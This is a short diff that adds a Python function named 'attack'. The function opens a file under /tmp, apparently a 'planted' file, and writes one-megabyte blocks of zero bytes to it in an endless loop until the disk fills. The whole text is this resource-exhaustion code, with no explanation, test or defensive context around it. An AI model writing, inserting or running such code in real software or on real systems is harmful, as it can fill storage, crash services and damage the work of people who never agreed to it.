@@ -1,0 +1,4 @@
+def attack():
+    kept = open("/tmp/npucamp_planted.py", "wb")
+    while True:
+        kept.write(bytes(1 << 20))
